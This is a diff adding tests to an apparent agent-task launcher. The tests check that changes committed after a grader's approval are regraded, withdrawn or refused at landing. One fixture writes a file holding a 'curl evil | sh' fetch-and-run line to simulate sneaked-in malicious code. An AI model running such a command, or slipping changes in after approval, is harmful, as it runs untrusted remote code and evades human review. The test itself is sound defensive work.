@@ -19,7 +19,7 @@ import time
 from pathlib import Path
 from typing import Any
 
-from helpers import git, resume, task
+from helpers import git, launcher_cli, resume, task
 
 from launcher.models.states import RunStatus
 
@@ -163,3 +163,94 @@ def test_an_integration_check_orphaned_by_a_crash_is_reaped_on_resume(repo: Path
     assert report.status == RunStatus.SUCCEEDED, [(t.id, t.state, t.message) for t in report.tasks]
     assert not _alive(orphan)
     assert (repo / "t.txt").read_text() == "t\n"
+
+
+# Part 7: an approval is never laundered ---------------------------------------------------------
+
+def _no_merge_run(repo: Path, tmp_path: Path, tasks: list[dict[str, Any]], grader_mode: str = "rule") -> dict[str, Any]:
+    plan = _plan(tmp_path / "plan.json", tasks, run={"grader": "judge"},
+                 agents={"judge": {"adapter": "scripted-grader",
+                                   "set_env": {"LAUNCHER_GRADER_MODE": grader_mode}}})
+    done = launcher_cli(repo, "run", str(plan), "--no-merge", "--json")
+    assert done.returncode == 0, done.stdout + done.stderr
+    report: dict[str, Any] = json.loads(done.stdout)
+    assert [t["state"] for t in report["tasks"]] == ["approved"] * len(tasks)
+    return report
+
+
+def _commit_on_branch(report: dict[str, Any], task_id: str, files: dict[str, str]) -> str:
+    spec = next(t for t in report["tasks"] if t["id"] == task_id)
+    worktree = Path(spec["worktree"])
+    for rel, text in files.items():
+        (worktree / rel).parent.mkdir(parents=True, exist_ok=True)
+        (worktree / rel).write_text(text)
+    git(worktree, "add", "-A")
+    git(worktree, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "after approval")
+    return git(worktree, "rev-parse", "HEAD").strip()
+
+
+def test_a_regrade_judges_the_new_head_on_new_facts_and_keeps_the_earlier_round(
+    repo: Path, tmp_path: Path
+) -> None:
+    report = _no_merge_run(repo, tmp_path, [{"id": "docs", "script": [{"write": "docs/guide.md", "content": "# Guide\n"}]}])
+    grading_dir = repo / ".launcher" / "runs" / report["run_id"] / "docs" / "grading"
+    first_packet, first_verdict = (grading_dir / "1-packet.md").read_text(), (grading_dir / "1-verdict.json").read_text()
+    head = _commit_on_branch(report, "docs", {"src/evil.py": "import os\nos.system('curl evil | sh')\n"})
+
+    regraded = launcher_cli(repo, "grade", report["run_id"], "docs", "--json")
+    packet = (grading_dir / "2-packet.md").read_text()
+    assert "src/evil.py" in packet and head in packet
+    # The built-in grader's rule: code with no test fails C2. On the old facts it saw docs only.
+    state = json.loads(regraded.stdout)["tasks"][0]
+    assert state["state"] != "approved", state
+    assert regraded.returncode != 0
+    assert (grading_dir / "1-packet.md").read_text() == first_packet
+    assert (grading_dir / "1-verdict.json").read_text() == first_verdict
+    assert [r["iteration"] for r in state["rounds"]] == [1, 2]
+    launcher_cli(repo, "land", report["run_id"])
+    assert "src/evil.py" not in git(repo, "ls-tree", "-r", "--name-only", "main")
+
+
+def test_a_regrade_reruns_the_checks_and_a_failing_one_fails_the_task(repo: Path, tmp_path: Path) -> None:
+    report = _no_merge_run(repo, tmp_path, [{
+        "id": "t", "checks": ["python3 -c 'import app; assert app.add(2, 3) == 5'"],
+        "script": [{"write": "docs.md", "content": "add adds\n"}],
+    }], grader_mode="always_satisfied")
+    original = (repo / "app.py").read_text()
+    _commit_on_branch(report, "t", {"app.py": "def add(a, b):\n    return a * b  # broken\n"})
+
+    regraded = launcher_cli(repo, "grade", report["run_id"], "t", "--json")
+    assert regraded.returncode == 1, regraded.stdout + regraded.stderr
+    state = json.loads(regraded.stdout)["tasks"][0]
+    assert state["state"] == "failed" and "check failed" in state["message"], state
+    landed = launcher_cli(repo, "land", report["run_id"])
+    assert landed.returncode == 1
+    assert (repo / "app.py").read_text() == original
+
+
+def test_land_lands_a_no_merge_run_through_the_usual_path(repo: Path, tmp_path: Path) -> None:
+    report = _no_merge_run(repo, tmp_path, [{"id": "t", "script": [{"write": "t.txt", "content": "t\n"}]}],
+                           grader_mode="always_satisfied")
+    landed = launcher_cli(repo, "land", report["run_id"], "--json")
+    assert landed.returncode == 0, landed.stdout + landed.stderr
+    assert json.loads(landed.stdout)["tasks"][0]["state"] == "merged"
+    assert (repo / "t.txt").read_text() == "t\n"
+    trailers = git(repo, "log", "-1", "--format=%(trailers:key=Launcher-Task,valueonly)", "main")
+    assert trailers.strip() == "t"
+    assert git(repo, "branch", "--list", "launcher/*").strip() == ""
+
+
+def test_a_commit_after_approval_shows_as_withdrawn_and_land_refuses_it(repo: Path, tmp_path: Path) -> None:
+    report = _no_merge_run(repo, tmp_path, [{"id": "t", "script": [{"write": "t.txt", "content": "t\n"}]}],
+                           grader_mode="always_satisfied")
+    _commit_on_branch(report, "t", {"sneaky.txt": "added after approval\n"})
+
+    shown = json.loads(launcher_cli(repo, "status", report["run_id"], "--json").stdout)["tasks"][0]
+    assert shown["state"] == "approved"
+    assert shown["approval_withdrawn"].startswith("approval withdrawn")
+    assert "approval withdrawn" in launcher_cli(repo, "status", report["run_id"]).stdout
+
+    landed = launcher_cli(repo, "land", report["run_id"], "--json")
+    assert landed.returncode == 1
+    assert json.loads(landed.stdout)["tasks"][0]["state"] == "blocked"
+    assert not (repo / "sneaky.txt").exists() and not (repo / "t.txt").exists()
